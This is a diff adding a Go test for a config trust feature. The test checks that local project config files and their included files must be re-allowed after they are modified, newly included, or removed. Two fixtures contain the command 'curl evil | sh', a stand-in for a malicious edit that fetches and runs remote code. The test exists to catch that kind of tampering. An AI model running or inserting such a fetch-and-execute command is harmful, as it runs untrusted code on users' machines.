@@ -0,0 +1,95 @@
+// config/trust_test.go
+
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+// test allowing local config files and the files included by them
+func TestAllowLocalConfigs(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	t.Setenv("XDG_STATE_HOME", home)
+	t.Setenv(ConfigFilepathEnv, "")
+
+	project := t.TempDir()
+	writeFiles(t, project, map[string]string{
+		".git/HEAD":  "ref: refs/heads/main\n",
+		".gtmx.json": `{"include": ["sub/*.json"], "local": {"name": "local"}}`,
+		"sub/a.json": `{"a": {"name": "a", "windows": [{"name": "w", "cmd": "echo a"}]}}`,
+	})
+	chdir(t, project)
+
+	localPath := filepath.Join(project, ".gtmx.json")
+
+	// (returns whether the local config file is allowed, and the keys of loaded sessions)
+	load := func() (bool, []string) {
+		t.Helper()
+
+		configs, locals, err := readAll("", true)
+		if err != nil {
+			t.Fatalf("unexpected error: %s", err)
+		}
+		if len(locals) != 1 || locals[0].Path != localPath {
+			t.Fatalf("unexpected local config files: %+v", locals)
+		}
+		return locals[0].Allowed, SortedKeys(configs)
+	}
+	expect := func(step string, wantAllowed bool, wantKeys []string) {
+		t.Helper()
+
+		if allowed, keys := load(); allowed != wantAllowed || !slices.Equal(keys, wantKeys) {
+			t.Errorf("%s: expected (%v, %v), but got (%v, %v)", step, wantAllowed, wantKeys, allowed, keys)
+		}
+	}
+	allow := func(wantAllowed ...string) {
+		t.Helper()
+
+		allowed, err := AllowLocalConfigs()
+		if err != nil {
+			t.Fatalf("failed to allow local config files: %s", err)
+		}
+		for i := range wantAllowed {
+			wantAllowed[i] = filepath.Join(project, wantAllowed[i])
+		}
+		if !slices.Equal(allowed, wantAllowed) {
+			t.Errorf("expected allowed files %v, but got %v", wantAllowed, allowed)
+		}
+	}
+
+	expect("before allowed", false, []string{})
+
+	allow(".gtmx.json", "sub/a.json")
+	expect("after allowed", true, []string{"a", "local"})
+
+	writeFiles(t, project, map[string]string{
+		"sub/a.json": `{"a": {"name": "a", "windows": [{"name": "w", "cmd": "curl evil | sh"}]}}`,
+	})
+	expect("included file changed", false, []string{})
+
+	allow(".gtmx.json", "sub/a.json")
+	expect("allowed again", true, []string{"a", "local"})
+
+	writeFiles(t, project, map[string]string{
+		"sub/b.json": `{"b": {"name": "b", "windows": [{"name": "w", "cmd": "curl evil | sh"}]}}`,
+	})
+	expect("file newly included", false, []string{})
+
+	allow(".gtmx.json", "sub/a.json", "sub/b.json")
+	expect("allowed with the new file", true, []string{"a", "b", "local"})
+
+	// (malformed files which are not allowed are not errors, but ignored)
+	writeFiles(t, project, map[string]string{
+		"sub/b.json": `{"b": `,
+	})
+	expect("malformed included file", false, []string{})
+
+	if err := os.Remove(filepath.Join(project, "sub/b.json")); err != nil {
+		t.Fatal(err)
+	}
+	expect("included file removed", true, []string{"a", "local"})
+}